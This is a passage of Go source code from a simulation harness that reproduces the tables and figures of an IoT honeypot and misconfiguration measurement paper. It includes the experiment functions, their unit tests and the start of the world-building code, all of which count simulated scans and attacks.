		comps = append(comps, report.Comparison{
			Metric: "devicetypes." + string(p) + ".camerasLead",
			Paper:  1, Measured: boolToFloat(types[iot.TypeCamera] == max && max > 0),
			Note: "cameras are the top type",
		})
	}
	return Result{ID: "fig2", Title: "Figure 2", Artifact: t.String(), Comparisons: comps}
}

// Figure3 reports scanning-service traffic distribution per honeypot.
func Figure3(w *World) Result {
	w.RunAttackMonth()
	events := w.Log.Events()
	services := w.Sources.ScanningServiceIPs()

	perPot := make(map[string]map[string]int)
	totals := make(map[string]int)
	for _, ev := range events {
		svc, ok := services[ev.Src]
		if !ok {
			continue
		}
		if perPot[ev.Honeypot] == nil {
			perPot[ev.Honeypot] = make(map[string]int)
		}
		perPot[ev.Honeypot][svc]++
		totals[ev.Honeypot]++
	}
	t := report.NewTable("Scanning-service traffic on honeypots (%)",
		"Honeypot", "Service", "Share")
	for _, pot := range report.SortedKeys(perPot) {
		for _, svc := range report.SortedKeys(perPot[pot]) {
			t.AddRow(pot, svc, report.Percent(float64(perPot[pot][svc])/float64(totals[pot])))
		}
	}
	// Unique scanning-service sources across all honeypots vs paper 10,696.
	uniq := make(map[netsim.IPv4]bool)
	for _, ev := range events {
		if _, ok := services[ev.Src]; ok {
			uniq[ev.Src] = true
		}
	}
	comps := []report.Comparison{{
		Metric: "scanningservices.uniqueIPs", Paper: 10696,
		Measured: float64(len(uniq)),
		Scaled:   float64(len(uniq)) / w.Cfg.AttackIntensity,
	}}
	return Result{ID: "fig3", Title: "Figure 3", Artifact: t.String(), Comparisons: comps}
}

// Figure4 reports attack-type shares per honeypot.
func Figure4(w *World) Result {
	w.RunAttackMonth()
	shares := honeypot.TypeShares(w.Log.Events())
	t := report.NewTable("Attack types in different honeypots (%)",
		"Honeypot", "Type", "Share", "")
	for _, pot := range report.SortedKeys(shares) {
		for _, typ := range report.SortedKeys(shares[pot]) {
			s := shares[pot][typ]
			t.AddRow(pot, string(typ), report.Percent(s), report.Bar(s, 30))
		}
	}
	comps := []report.Comparison{{
		Metric: "attacktypes.upotDoS", Paper: 0.80,
		Measured: shares["U-Pot"][honeypot.AttackDoS],
		Note:     "U-Pot DoS share (>80% per Section 5.1.3)",
	}}
	return Result{ID: "fig4", Title: "Figure 4", Artifact: t.String(), Comparisons: comps}
}

// Figure5 compares our scanning-service classification with GreyNoise.
func Figure5(w *World) Result {
	w.RunAttackMonth()
	sources := correlate.HoneypotSources(w.Log.Events()).Sorted()
	cmp := correlate.CompareScanningServices(sources, w.RDNS, w.GreyNoise)
	t := report.NewTable("Scanning-service classification",
		"Method", "Identified")
	t.AddRow("Our classification", cmp.Ours)
	t.AddRow("GreyNoise", cmp.GreyNoise)
	t.AddRow("Ours but missed by GreyNoise", cmp.MissedByGN)
	comps := []report.Comparison{{
		Metric: "greynoise.missed", Paper: 2023,
		Measured: float64(cmp.MissedByGN),
		Scaled:   float64(cmp.MissedByGN) / w.Cfg.AttackIntensity,
		Note:     "scanning-service IPs GreyNoise did not know",
	}, {
		Metric: "greynoise.oursHigher", Paper: 1,
		Measured: boolToFloat(cmp.Ours > cmp.GreyNoise),
		Note:     "our method identifies more than GreyNoise",
	}}
	return Result{ID: "fig5", Title: "Figure 5", Artifact: t.String(), Comparisons: comps}
}

// Figure6 reports VirusTotal malicious shares per protocol and origin.
func Figure6(w *World) Result {
	w.RunAttackMonth()
	w.RunTelescope()
	shares := correlate.VirusTotalShares(w.Log.Events(), w.Telescope.Flows(), w.VirusTotal)
	t := report.NewTable("Malicious sources by VirusTotal (%)",
		"Protocol", "Origin", "Sources", "Flagged", "Share")
	var smbShare, otherSum float64
	others := 0
	for _, s := range shares {
		t.AddRow(string(s.Protocol), s.Origin, s.Sources, s.Flagged, report.Percent(s.Share()))
		// Shape metric over honeypot origins with enough sources to be
		// meaningful: SMB must sit above the cross-protocol average.
		if s.Origin != "H" || s.Sources < 5 {
			continue
		}
		if s.Protocol == iot.ProtoSMB {
			smbShare = s.Share()
		} else {
			otherSum += s.Share()
			others++
		}
	}
	meanOther := 0.0
	if others > 0 {
		meanOther = otherSum / float64(others)
	}
	comps := []report.Comparison{{
		Metric: "virustotal.topHoneypotProtocol", Paper: 1,
		Measured: boolToFloat(smbShare > meanOther),
		Note:     "SMB honeypot sources exceed the average malicious share (Section 4.3.3)",
	}}
	return Result{ID: "fig6", Title: "Figure 6", Artifact: t.String(), Comparisons: comps}
}

// Figure7 reports attack-type shares per protocol.
func Figure7(w *World) Result {
	w.RunAttackMonth()
	shares := honeypot.TypeSharesByProtocol(w.Log.Events())
	t := report.NewTable("Attack trends by type and protocol (%)",
		"Protocol", "Type", "Share", "")
	for _, proto := range report.SortedKeys(shares) {
		for _, typ := range report.SortedKeys(shares[proto]) {
			s := shares[proto][typ]
			t.AddRow(proto, string(typ), report.Percent(s), report.Bar(s, 30))
		}
	}
	udpDoS := (shares[string(iot.ProtoUPnP)][honeypot.AttackDoS] +
		shares[string(iot.ProtoCoAP)][honeypot.AttackDoS]) / 2
	tcpDoS := (shares[string(iot.ProtoTelnet)][honeypot.AttackDoS] +
		shares[string(iot.ProtoSSH)][honeypot.AttackDoS]) / 2
	comps := []report.Comparison{{
		Metric: "trends.udpDoSAboveTcp", Paper: 1,
		Measured: boolToFloat(udpDoS > tcpDoS),
		Note:     "UDP protocols receive more DoS than TCP (Section 5.1.7)",
	}, {
		Metric: "trends.telnetMalware", Paper: 1,
		Measured: boolToFloat(shares[string(iot.ProtoTelnet)][honeypot.AttackMalware] > 0.05),
		Note:     "Telnet shows malware deployment",
	}}
	return Result{ID: "fig7", Title: "Figure 7", Artifact: t.String(), Comparisons: comps}
}

// Figure8 reports the daily attack series with listing markers.
func Figure8(w *World) Result {
	w.RunAttackMonth()
	daily := honeypot.DailyCounts(w.Log.Events(), netsim.ExperimentStart, attack.ExperimentDays)
	var b strings.Builder
	b.WriteString("Total attacks by day (# = attacks; listings and DoS spikes marked)\n")
	maxN := 1
	for _, n := range daily {
		if n > maxN {
			maxN = n
		}
	}
	listings := map[int]string{}
	for _, l := range attack.PaperListings {
		listings[l.Day] = l.Service
	}
	for d, n := range daily {
		mark := ""
		if svc, ok := listings[d]; ok {
			mark = " <- listed on " + svc
		}
		for _, spike := range attack.DoSSpikeDays {
			if d == spike {
				mark += " <- DoS attack"
			}
		}
		fmt.Fprintf(&b, "Apr %02d  %6d  %s%s\n", d+1, n,
			report.Bar(float64(n)/float64(maxN), 40), mark)
	}
	firstWeek, lastWeek := 0, 0
	for d := 0; d < 7; d++ {
		firstWeek += daily[d]
		lastWeek += daily[attack.ExperimentDays-7+d]
	}
	comps := []report.Comparison{{
		Metric: "daily.upwardTrend", Paper: 1,
		Measured: boolToFloat(lastWeek > firstWeek),
		Note:     "attacks rise after scanning-service listings (Figure 8)",
	}, {
		Metric: "daily.dosSpike", Paper: 1,
		Measured: boolToFloat(daily[23] > daily[22] && daily[25] > daily[24]),
		Note:     "DoS spike days stand out",
	}}
	return Result{ID: "fig8", Title: "Figure 8", Artifact: b.String(), Comparisons: comps}
}

// Figure9 reports multistage attack flows.
func Figure9(w *World) Result {
	w.RunAttackMonth()
	events := w.Log.Events()
	exclude := make(map[netsim.IPv4]bool)
	for ip := range w.Sources.ScanningServiceIPs() {
		exclude[ip] = true
	}
	attacks := honeypot.DetectMultistage(honeypot.FilterBySources(events, exclude))
	stages := honeypot.StageCounts(attacks)

	t := report.NewTable("Multistage attacks: protocols per stage",
		"Stage", "Protocol", "Count")
	for i, stage := range stages {
		for _, proto := range report.SortedKeys(stageToStrings(stage)) {
			t.AddRow(i+1, proto, stage[iot.Protocol(proto)])
		}
	}
	var stage1TelnetSSH, stage1Total int
	if len(stages) > 0 {
		for p, n := range stages[0] {
			stage1Total += n
			if p == iot.ProtoTelnet || p == iot.ProtoSSH {
				stage1TelnetSSH += n
			}
		}
	}
	stage2SMBLeads := false
	if len(stages) > 1 {
		maxN := 0
		var maxP iot.Protocol
		for p, n := range stages[1] {
			if n > maxN {
				maxN = n
				maxP = p
			}
		}
		stage2SMBLeads = maxP == iot.ProtoSMB
	}
	comps := []report.Comparison{{
		Metric: "multistage.count", Paper: attack.PaperMultistageCount,
		Measured: float64(len(attacks)),
		Scaled:   float64(len(attacks)) / w.Cfg.AttackIntensity,
	}, {
		Metric: "multistage.telnetSSHFirst", Paper: 1,
		Measured: boolToFloat(stage1Total > 0 && float64(stage1TelnetSSH)/float64(stage1Total) > 0.5),
		Note:     "majority initiate with Telnet/SSH (Section 5.4)",
	}, {
		Metric: "multistage.smbSecond", Paper: 1,
		Measured: boolToFloat(stage2SMBLeads),
		Note:     "SMB receives most second-stage attacks",
	}}
	return Result{ID: "fig9", Title: "Figure 9", Artifact: t.String(), Comparisons: comps}
}

func stageToStrings(m map[iot.Protocol]int) map[string]int {
	out := make(map[string]int, len(m))
	for k, v := range m {
		out[string(k)] = v
	}
	return out
}

// Headline computes the Section 5.3 intersection: misconfigured devices
// that attacked the honeypots and/or the telescope, plus the Censys
// extension and the reverse-lookup findings.
func Headline(w *World) Result {
	findings, _ := w.Classify()
	w.RunAttackMonth()
	w.RunTelescope()

	mis := make(correlate.IPSet)
	for _, f := range findings {
		if f.Misconfigured() {
			mis[f.Result.IP] = struct{}{}
		}
	}
	hpSources := correlate.HoneypotSources(w.Log.Events())
	telSources := correlate.TelescopeSources(w.Telescope.Flows())
	x := correlate.Intersect(mis, hpSources, telSources)

	censys := w.PopulateCensys()
	ext := correlate.ExtendWithCensys(censys, correlate.NewIPSet(x.All()), hpSources, telSources)

	var allSources []netsim.IPv4
	seen := make(map[netsim.IPv4]bool)
	for ip := range hpSources {
		if !seen[ip] {
			seen[ip] = true
			allSources = append(allSources, ip)
		}
	}
	domains := correlate.ReverseLookupStudy(allSources, w.RDNS)

	scale := w.ScaleFactor()
	t := report.NewTable("Misconfigured devices observed attacking (Section 5.3)",
		"Subset", "Count", "Scaled", "Paper")
	t.AddRow("honeypots only", len(x.HoneypotOnly), int(float64(len(x.HoneypotOnly))*scale), 1147)
	t.AddRow("telescope only", len(x.TelescopeOnly), int(float64(len(x.TelescopeOnly))*scale), 1274)
	t.AddRow("both", len(x.Both), int(float64(len(x.Both))*scale), 8697)
	t.AddRow("total", x.Total(), int(float64(x.Total())*scale), 11118)
	t.AddRow("censys extension", ext.Total(), int(float64(ext.Total())*scale), 1671)
	t.AddRow("registered domains", domains.RegisteredDomains, 0, 797)
	t.AddRow("domains with webpage", domains.WithWebpage, 0, 427)

	// All intersecting devices must be VT-flagged, as in the paper.
	flagged := 0
	for _, ip := range x.All() {
		if w.VirusTotal.IsMalicious(ip) {
			flagged++
		}
	}

	// The pipeline intersection above runs at the world's scale, where the
	// three-way split is a handful of devices. Validate the split *shape*
	// on a dedicated larger population (a pure hash-walk; no scanning):
	// of the paper's 11,118, 78.2% attacked both datasets.
	bothShare := infectedSplitShare(w)

	comps := []report.Comparison{
		{Metric: "headline.total", Paper: 11118, Measured: float64(x.Total()),
			Scaled: float64(x.Total()) * scale},
		{Metric: "headline.bothDominates", Paper: 1,
			Measured: boolToFloat(bothShare > 0.5),
			Note:     fmt.Sprintf("both-share %.2f at population level (paper 0.78)", bothShare)},
		{Metric: "headline.vtFlagged", Paper: 1,
			Measured: boolToFloat(x.Total() == 0 || flagged == x.Total()),
			Note:     "every intersecting device flagged by ≥1 vendor"},
		{Metric: "headline.censysExtension", Paper: 1671, Measured: float64(ext.Total()),
			Scaled: float64(ext.Total()) * scale,
			Note:   "IoT-tagged attackers outside the misconfigured set"},
	}
	return Result{ID: "headline", Title: "Section 5.3 headline", Artifact: t.String(), Comparisons: comps}
}

// infectedSplitShare derives the infected population of a /12 universe at
// 64× boost (≈170 infected devices) and returns the share that attacks
// both the honeypots and the telescope.
func infectedSplitShare(w *World) float64 {
	u := iot.NewUniverse(iot.UniverseConfig{
		Seed:         w.Cfg.Seed,
		Prefix:       netsim.MustParsePrefix("100.0.0.0/12"),
		DensityBoost: 64,
	})
	src := attack.NewSources(w.Cfg.Seed, u, nil, nil)
	infected := src.DeriveInfected()
	if len(infected) == 0 {
		return 0
	}
	both := 0
	misconfigured := 0
	for _, ip := range infected {
		t, _ := src.InfectedTargetsFor(ip)
		if t.Configured {
			continue
		}
		misconfigured++
		if t.Honeypots && t.Telescope {
			both++
		}
	}
	if misconfigured == 0 {
		return 0
	}
	return float64(both) / float64(misconfigured)
}
