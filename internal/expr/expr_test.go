package expr

import (
	"strings"
	"sync"
	"testing"

	"openhire/internal/iot"
)

// quickWorld is shared across the test file: building the world and running
// its phases dominates test time, and every experiment is read-only over
// the cached phases.
var (
	quickOnce sync.Once
	quickW    *World
)

func testWorld(t *testing.T) *World {
	t.Helper()
	quickOnce.Do(func() {
		quickW = BuildWorld(QuickConfig())
	})
	return quickW
}

func TestAllExperimentsRegistered(t *testing.T) {
	exps := All()
	if len(exps) != 18 {
		t.Fatalf("%d experiments, want 18", len(exps))
	}
	seen := make(map[string]bool)
	for _, e := range exps {
		if seen[e.ID] {
			t.Fatalf("duplicate id %s", e.ID)
		}
		seen[e.ID] = true
		if e.Run == nil || e.Title == "" {
			t.Fatalf("experiment %s incomplete", e.ID)
		}
	}
	if _, ok := Find("table5"); !ok {
		t.Fatal("Find failed")
	}
	if _, ok := Find("nope"); ok {
		t.Fatal("phantom experiment")
	}
}

func TestTable4ExposureOrdering(t *testing.T) {
	w := testWorld(t)
	res := Table4(w)
	if !strings.Contains(res.Artifact, "telnet") {
		t.Fatalf("artifact:\n%s", res.Artifact)
	}
	byMetric := compMap(res)
	// Table 4 ordering: telnet > mqtt > upnp > coap > xmpp > amqp.
	order := []iot.Protocol{iot.ProtoTelnet, iot.ProtoMQTT, iot.ProtoUPnP,
		iot.ProtoCoAP, iot.ProtoXMPP, iot.ProtoAMQP}
	for i := 1; i < len(order); i++ {
		hi := byMetric["exposed."+string(order[i-1])].Measured
		lo := byMetric["exposed."+string(order[i])].Measured
		if hi < lo {
			t.Fatalf("%s (%v) < %s (%v): Table 4 ordering broken",
				order[i-1], hi, order[i], lo)
		}
	}
	// Scaled totals should land within 3x of the paper (small-N noise).
	total := byMetric["exposed.total"]
	if total.Scaled < total.Paper/3 || total.Scaled > total.Paper*3 {
		t.Fatalf("scaled total %v vs paper %v", total.Scaled, total.Paper)
	}
}

func TestTable5MisconfigShape(t *testing.T) {
	w := testWorld(t)
	res := Table5(w)
	byMetric := compMap(res)
	total := byMetric["misconfig.total"]
	if total.Measured == 0 {
		t.Fatal("no misconfigured devices")
	}
	// UPnP and CoAP reflectors dominate (Table 5's two largest classes).
	upnp := byMetric["misconfig.upnp.Reflection-attack resource"].Measured
	coap := byMetric["misconfig.coap.Reflection-attack resource"].Measured
	if upnp+coap < total.Measured*0.6 {
		t.Fatalf("reflectors %v of %v: should dominate", upnp+coap, total.Measured)
	}
	if upnp <= coap {
		t.Fatalf("UPnP (%v) must exceed CoAP (%v)", upnp, coap)
	}
}

func TestTable6HoneypotFamilies(t *testing.T) {
	w := testWorld(t)
	res := Table6(w)
	if !strings.Contains(res.Artifact, "Anglerfish") || !strings.Contains(res.Artifact, "Cowrie") {
		t.Fatalf("artifact:\n%s", res.Artifact)
	}
	byMetric := compMap(res)
	ang := byMetric["honeypots.Anglerfish"].Measured
	cow := byMetric["honeypots.Cowrie"].Measured
	total := byMetric["honeypots.total"].Measured
	if total == 0 {
		t.Fatal("no honeypots detected")
	}
	if (ang+cow)/total < 0.6 {
		t.Fatalf("Anglerfish+Cowrie %v of %v: Table 6 dominance broken", ang+cow, total)
	}
}

func TestTable7AttackVolumes(t *testing.T) {
	w := testWorld(t)
	res := Table7(w)
	byMetric := compMap(res)
	total := byMetric["events.total"]
	if total.Measured < 500 {
		t.Fatalf("only %v events", total.Measured)
	}
	// Scaled total within 2x of the paper's 200k.
	if total.Scaled < total.Paper/2 || total.Scaled > total.Paper*2 {
		t.Fatalf("scaled %v vs paper %v", total.Scaled, total.Paper)
	}
	// HosTaGe Telnet is the largest bucket in the paper, but its margin
	// over HosTaGe SSH is only 3% — allow small-sample noise of 25%.
	hostageTelnet := byMetric["events.HosTaGe.telnet"].Measured
	for metric, c := range byMetric {
		if strings.HasPrefix(metric, "events.") && metric != "events.total" &&
			c.Measured > hostageTelnet*1.25 {
			t.Fatalf("%s (%v) far exceeds HosTaGe telnet (%v)", metric, c.Measured, hostageTelnet)
		}
	}
}

func TestTable8TelescopeShape(t *testing.T) {
	w := testWorld(t)
	res := Table8(w)
	byMetric := compMap(res)
	telnet := byMetric["telescope.telnet.packets"].Measured
	upnp := byMetric["telescope.upnp.packets"].Measured
	if telnet < 10*upnp {
		t.Fatalf("telnet %v vs upnp %v: Table 8 dominance broken", telnet, upnp)
	}
}

func TestTable10CountryShape(t *testing.T) {
	w := testWorld(t)
	res := Table10(w)
	if !strings.Contains(res.Artifact, "USA") {
		t.Fatalf("artifact:\n%s", res.Artifact)
	}
	byMetric := compMap(res)
	usa := byMetric["country.USA"]
	if usa.Measured < 0.15 || usa.Measured > 0.40 {
		t.Fatalf("USA share %v, want ~0.27", usa.Measured)
	}
}

func TestTable11DeviceTags(t *testing.T) {
	w := testWorld(t)
	res := Table11(w)
	byMetric := compMap(res)
	if byMetric["devicetags.tagged"].Measured == 0 {
		t.Fatal("no tagged devices")
	}
	if byMetric["devicetags.models"].Measured < 10 {
		t.Fatalf("only %v models observed", byMetric["devicetags.models"].Measured)
	}
}

func TestTable12Credentials(t *testing.T) {
	w := testWorld(t)
	res := Table12(w)
	byMetric := compMap(res)
	if byMetric["credentials.telnet.top"].Measured != 1 {
		t.Fatalf("telnet top credential is not admin/admin:\n%s", res.Artifact)
	}
	if byMetric["credentials.ssh.top"].Measured != 1 {
		t.Fatalf("ssh top credential is not admin/admin:\n%s", res.Artifact)
	}
}

func TestTable13Malware(t *testing.T) {
	w := testWorld(t)
	res := Table13(w)
	byMetric := compMap(res)
	if byMetric["malware.corpus"].Measured != 134 {
		t.Fatalf("corpus size %v", byMetric["malware.corpus"].Measured)
	}
	if byMetric["malware.identifiedFamilies"].Measured == 0 {
		t.Fatal("no malware families identified from captured payloads")
	}
}

func TestFigure2CamerasLead(t *testing.T) {
	w := testWorld(t)
	res := Figure2(w)
	byMetric := compMap(res)
	if byMetric["devicetypes.telnet.camerasLead"].Measured != 1 {
		t.Fatalf("cameras do not lead telnet:\n%s", res.Artifact)
	}
	if byMetric["devicetypes.upnp.camerasLead"].Measured != 1 {
		t.Fatalf("cameras do not lead upnp:\n%s", res.Artifact)
	}
}

func TestFigure3ScanningServices(t *testing.T) {
	w := testWorld(t)
	res := Figure3(w)
	if !strings.Contains(res.Artifact, "shodan.io") && !strings.Contains(res.Artifact, "stretchoid.com") {
		t.Fatalf("no known services in artifact:\n%s", res.Artifact)
	}
	byMetric := compMap(res)
	if byMetric["scanningservices.uniqueIPs"].Measured == 0 {
		t.Fatal("no scanning-service sources observed")
	}
}

func TestFigure4UPotDoS(t *testing.T) {
	w := testWorld(t)
	res := Figure4(w)
	byMetric := compMap(res)
	if byMetric["attacktypes.upotDoS"].Measured < 0.5 {
		t.Fatalf("U-Pot DoS share %v:\n%s", byMetric["attacktypes.upotDoS"].Measured, res.Artifact)
	}
}

func TestFigure5GreyNoiseGap(t *testing.T) {
	w := testWorld(t)
	res := Figure5(w)
	byMetric := compMap(res)
	if byMetric["greynoise.missed"].Measured == 0 {
		t.Fatal("GreyNoise coverage gap not reproduced")
	}
	if byMetric["greynoise.oursHigher"].Measured != 1 {
		t.Fatalf("our classification should exceed GreyNoise:\n%s", res.Artifact)
	}
}

func TestFigure6SMBHighest(t *testing.T) {
	w := testWorld(t)
	res := Figure6(w)
	byMetric := compMap(res)
	if byMetric["virustotal.topHoneypotProtocol"].Measured != 1 {
		t.Fatalf("SMB is not the most-flagged honeypot protocol:\n%s", res.Artifact)
	}
}

func TestFigure7UDPDoSAboveTCP(t *testing.T) {
	w := testWorld(t)
	res := Figure7(w)
	byMetric := compMap(res)
	if byMetric["trends.udpDoSAboveTcp"].Measured != 1 {
		t.Fatalf("UDP DoS share not above TCP:\n%s", res.Artifact)
	}
	if byMetric["trends.telnetMalware"].Measured != 1 {
		t.Fatalf("no Telnet malware trend:\n%s", res.Artifact)
	}
}

func TestFigure8Trend(t *testing.T) {
	w := testWorld(t)
	res := Figure8(w)
	byMetric := compMap(res)
	if byMetric["daily.upwardTrend"].Measured != 1 {
		t.Fatalf("no upward trend:\n%s", res.Artifact)
	}
	if !strings.Contains(res.Artifact, "listed on shodan.io") {
		t.Fatalf("listing markers missing:\n%s", res.Artifact)
	}
}

func TestFigure9Multistage(t *testing.T) {
	w := testWorld(t)
	res := Figure9(w)
	byMetric := compMap(res)
	if byMetric["multistage.count"].Measured == 0 {
		t.Fatal("no multistage attacks")
	}
	if byMetric["multistage.telnetSSHFirst"].Measured != 1 {
		t.Fatalf("first stage not Telnet/SSH dominated:\n%s", res.Artifact)
	}
	if byMetric["multistage.smbSecond"].Measured != 1 {
		t.Fatalf("SMB not leading second stage:\n%s", res.Artifact)
	}
}

func TestHeadlineIntersection(t *testing.T) {
	w := testWorld(t)
	res := Headline(w)
	byMetric := compMap(res)
	if byMetric["headline.total"].Measured == 0 {
		t.Fatal("no misconfigured devices observed attacking")
	}
	if byMetric["headline.vtFlagged"].Measured != 1 {
		t.Fatal("intersecting devices not all VT-flagged")
	}
}

func compMap(res Result) map[string]struct {
	Paper, Measured, Scaled float64
} {
	out := make(map[string]struct{ Paper, Measured, Scaled float64 })
	for _, c := range res.Comparisons {
		out[c.Metric] = struct{ Paper, Measured, Scaled float64 }{c.Paper, c.Measured, c.Scaled}
	}
	return out
}
