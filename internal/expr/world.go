// Package expr is the experiment harness: it assembles the full simulated
// world (universe, network, honeypots, telescope, adversaries, intel) and
// exposes one experiment per table and figure in the paper's evaluation,
// each producing a rendered artifact plus paper-vs-measured comparisons.
package expr

import (
	"context"
	"sort"
	"sync"

	"openhire/internal/attack"
	"openhire/internal/attack/malware"
	"openhire/internal/core/classify"
	"openhire/internal/core/fingerprint"
	"openhire/internal/core/scan"
	"openhire/internal/datasets"
	"openhire/internal/geo"
	"openhire/internal/honeypot"
	"openhire/internal/intel"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/obs"
	"openhire/internal/telescope"
)

// WorldConfig sizes the simulated world. The default reproduces the paper at
// 1/1024 of IPv4: a /14 universe with 16× density boost, so every expected
// count is paper_count/1024.
type WorldConfig struct {
	Seed uint64
	// UniversePrefix is the scanned population range.
	UniversePrefix netsim.Prefix
	// DensityBoost multiplies device densities (see iot.UniverseConfig).
	DensityBoost float64
	// HoneypotBoost oversamples wild honeypots (0 = DensityBoost).
	HoneypotBoost float64
	// TelescopePrefix is the darknet range (default 44.0.0.0/8).
	TelescopePrefix netsim.Prefix
	// AttackIntensity scales Table 7 event volumes.
	AttackIntensity float64
	// TelescopeScale scales Table 8 volumes.
	TelescopeScale float64
	// TelescopeDays of darknet traffic to generate.
	TelescopeDays int
	// ScannerSource is the research scanner's address.
	ScannerSource netsim.IPv4
	// Workers bounds concurrency in scans and attack replay.
	Workers int
}

// DefaultConfig is the standard experiment world: 1/1024 of the paper's
// dimensions throughout.
func DefaultConfig() WorldConfig {
	return WorldConfig{
		Seed:            2021,
		UniversePrefix:  netsim.MustParsePrefix("100.0.0.0/14"),
		DensityBoost:    16,
		TelescopePrefix: netsim.MustParsePrefix("44.0.0.0/8"),
		AttackIntensity: 1.0 / 16, // ~12.5k replayed protocol conversations
		TelescopeScale:  1.0 / 8192,
		TelescopeDays:   1,
		ScannerSource:   netsim.MustParseIPv4("130.226.0.1"),
		Workers:         128,
	}
}

// QuickConfig is a fast world for unit tests: smaller universe, lighter
// attack month.
func QuickConfig() WorldConfig {
	cfg := DefaultConfig()
	cfg.UniversePrefix = netsim.MustParsePrefix("100.0.0.0/16")
	cfg.DensityBoost = 32
	cfg.AttackIntensity = 1.0 / 128
	cfg.TelescopeScale = 1.0 / 100000
	return cfg
}

// World is the assembled simulation with lazily executed measurement
// phases. All phase methods are safe for concurrent use and cache their
// results.
type World struct {
	Cfg        WorldConfig
	Clock      *netsim.SimClock
	Network    *netsim.Network
	Universe   *iot.Universe
	GeoDB      *geo.DB
	RDNS       *geo.RDNS
	GreyNoise  *intel.GreyNoise
	VirusTotal *intel.VirusTotal
	Censys     *intel.Censys
	Telescope  *telescope.Telescope
	Honeypots  []*honeypot.Honeypot
	Log        *honeypot.Log
	Sources    *attack.Sources
	Corpus     *malware.Corpus

	// Trace, when non-nil, records one span per lazily executed phase
	// (simulated durations read from the tracer's clock). Leaving it nil is
	// byte-identical to a traced run: phases only ever call the tracer's
	// nil-safe methods and never branch on it.
	Trace *obs.Tracer

	// OnProbe, when non-nil, is threaded into the scan phase's
	// scan.Config.OnProbe (same zero-perturbation contract: observation
	// only, the probe stream is unchanged). Set it before RunScan.
	OnProbe func(scan.ProbeEvent)

	scanOnce    sync.Once
	scanResults map[iot.Protocol][]*scan.Result
	scanStats   map[iot.Protocol]scan.Stats

	filterOnce sync.Once
	genuine    map[iot.Protocol][]*scan.Result
	honeypots  []fingerprint.Detection

	classifyOnce sync.Once
	findings     []classify.Finding
	summary      classify.Summary

	attackOnce  sync.Once
	attackStats attack.Stats

	darknetOnce sync.Once
	darknetLen  int

	sonarOnce  sync.Once
	sonar      *datasets.Dataset
	shodanOnce sync.Once
	shodan     *datasets.Dataset
	censysOnce sync.Once
}

// BuildWorld assembles a world from cfg.
func BuildWorld(cfg WorldConfig) *World {
	clock := netsim.NewSimClock(netsim.ExperimentStart)
	network := netsim.NewNetwork(clock)
	universe := iot.NewUniverse(iot.UniverseConfig{
		Seed:          cfg.Seed,
		Prefix:        cfg.UniversePrefix,
		DensityBoost:  cfg.DensityBoost,
		HoneypotBoost: cfg.HoneypotBoost,
	})
	network.AddProvider(cfg.UniversePrefix, universe)

	geodb := geo.NewDB(cfg.Seed, nil)
	rdns := geo.NewRDNS(cfg.Seed)
	gn := intel.NewGreyNoise(cfg.Seed, 0.81)
	vt := intel.NewVirusTotal()
	cs := intel.NewCensys()

	tel := telescope.New(cfg.TelescopePrefix, geodb)
	network.AddObserver(cfg.TelescopePrefix, tel)

	pots, log := honeypot.DeployAll(network, netsim.MustParseIPv4("130.226.56.10"))

	return &World{
		Cfg: cfg, Clock: clock, Network: network, Universe: universe,
		GeoDB: geodb, RDNS: rdns, GreyNoise: gn, VirusTotal: vt, Censys: cs,
		Telescope: tel, Honeypots: pots, Log: log,
		Sources: attack.NewSources(cfg.Seed, universe, rdns, gn),
		Corpus:  malware.NewCorpus(cfg.Seed, nil),
	}
}

// ScaleFactor converts simulated counts to paper-scale.
func (w *World) ScaleFactor() float64 { return w.Universe.ScaleFactor() }

// RunScan executes the six-protocol Internet-wide scan once.
func (w *World) RunScan() (map[iot.Protocol][]*scan.Result, map[iot.Protocol]scan.Stats) {
	w.scanOnce.Do(func() {
		span := w.Trace.Start("scan")
		defer span.End()
		s := scan.NewScanner(scan.Config{
			Network: w.Network,
			Source:  w.Cfg.ScannerSource,
			Prefix:  w.Cfg.UniversePrefix,
			Seed:    w.Cfg.Seed,
			Workers: w.Cfg.Workers,
			OnProbe: w.OnProbe,
		})
		w.scanResults, w.scanStats = s.RunAllParallel(context.Background(), scan.AllModules())
	})
	return w.scanResults, w.scanStats
}

// FilterHoneypots splits scan results into genuine hosts and detections.
func (w *World) FilterHoneypots() (map[iot.Protocol][]*scan.Result, []fingerprint.Detection) {
	w.filterOnce.Do(func() {
		span := w.Trace.Start("filter_honeypots")
		defer span.End()
		results, _ := w.RunScan()
		w.genuine = make(map[iot.Protocol][]*scan.Result, len(results))
		// Filter in sorted protocol order so the detections slice (and
		// everything derived from it) is deterministic; map iteration
		// order would shuffle it run to run.
		protos := make([]iot.Protocol, 0, len(results))
		for proto := range results {
			protos = append(protos, proto)
		}
		sort.Slice(protos, func(i, j int) bool { return protos[i] < protos[j] })
		for _, proto := range protos {
			gen, dets := fingerprint.Filter(results[proto])
			w.genuine[proto] = gen
			w.honeypots = append(w.honeypots, dets...)
		}
	})
	return w.genuine, w.honeypots
}

// Classify runs misconfiguration classification over the honeypot-filtered
// results.
func (w *World) Classify() ([]classify.Finding, classify.Summary) {
	w.classifyOnce.Do(func() {
		span := w.Trace.Start("classify")
		defer span.End()
		genuine, _ := w.FilterHoneypots()
		for _, proto := range iot.ScannedProtocols {
			w.findings = append(w.findings, classify.ClassifyAll(genuine[proto])...)
		}
		w.summary = classify.Summarize(w.findings)
	})
	return w.findings, w.summary
}

// RunAttackMonth replays the calibrated attack month once.
func (w *World) RunAttackMonth() attack.Stats {
	w.attackOnce.Do(func() {
		span := w.Trace.Start("attack_month")
		defer span.End()
		campaign := attack.NewCampaign(attack.CampaignConfig{
			Seed:       w.Cfg.Seed,
			Network:    w.Network,
			Honeypots:  w.Honeypots,
			Universe:   w.Universe,
			Sources:    w.Sources,
			Corpus:     w.Corpus,
			Intensity:  w.Cfg.AttackIntensity,
			Workers:    w.Cfg.Workers,
			Clock:      w.Clock,
			GreyNoise:  w.GreyNoise,
			VirusTotal: w.VirusTotal,
			RDNS:       w.RDNS,
		})
		w.attackStats = campaign.Run(context.Background())
		campaign.RegisterIntel()
	})
	return w.attackStats
}

// RunTelescope generates the calibrated darknet traffic once.
func (w *World) RunTelescope() int {
	w.darknetOnce.Do(func() {
		span := w.Trace.Start("telescope")
		defer span.End()
		gen := attack.NewDarknetGenerator(attack.DarknetConfig{
			Seed:      w.Cfg.Seed,
			Telescope: w.Telescope,
			Sources:   w.Sources,
			GeoDB:     w.GeoDB,
			Scale:     w.Cfg.TelescopeScale,
			Days:      w.Cfg.TelescopeDays,
			Workers:   w.Cfg.Workers,
		})
